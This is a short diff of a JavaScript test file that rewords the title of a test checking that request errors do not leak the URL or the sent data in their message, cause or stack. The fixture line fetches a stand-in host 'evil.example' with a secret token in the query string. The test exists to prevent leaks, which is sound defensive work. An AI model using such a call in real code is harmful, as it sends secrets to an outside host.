@@ -165,7 +165,7 @@ describe('the error of a request', () => {
     });
   });
 
-  test('contains neither the URL nor what was sent, in message, cause and stack', async () => {
+  test('does not contain the URL or the sent data in its message, cause or stack', async () => {
     const secret = 'hunter2';
     const faults = await Promise.all([
       faultOf(ioFor([]).fetch(`https://evil.example/?token=${secret}`)),
